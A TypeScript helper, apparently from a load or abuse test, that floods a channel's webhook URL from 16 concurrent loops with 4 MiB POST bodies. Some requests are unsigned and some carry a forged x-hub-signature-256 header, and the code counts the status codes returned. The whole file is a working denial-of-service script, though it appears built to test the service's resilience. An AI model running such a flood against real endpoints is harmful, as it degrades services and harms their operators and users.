/**
 * Anybody at a channel's webhook, with bodies of 4 MiB: unsigned, and signed in form alone. It needs
 * no key, and has no limit of calls.
 */
const POSTERS = 16;
const BODY = Buffer.alloc(4 * 1024 * 1024, 'x');
const PAUSE_MS = 100;
const HEADERS = [{}, { 'x-hub-signature-256': `sha256=${'ab'.repeat(32)}` }] as const;

interface Flood {
  readonly noisy: { readonly baseUrl: string; readonly channelId: string };
  /** How often each status was answered. */
  readonly answers: Map<number, number>;
  readonly on: () => boolean;
}

export async function floodWebhook({ noisy, answers, on }: Flood): Promise<void> {
  const url = `${noisy.baseUrl}/networks/cloud/${noisy.channelId}`;
  const post = async (at: number): Promise<void> => {
    const headers = HEADERS[at % HEADERS.length] ?? {};
    while (on()) {
      const { status, body } = await fetch(url, { method: 'POST', headers, body: BODY });
      for await (const _part of body ?? []);
      answers.set(status, (answers.get(status) ?? 0) + 1);
      await new Promise((resume) => setTimeout(resume, PAUSE_MS));
    }
  };
  await Promise.all(Array.from({ length: POSTERS }, (_, at) => post(at)));
}
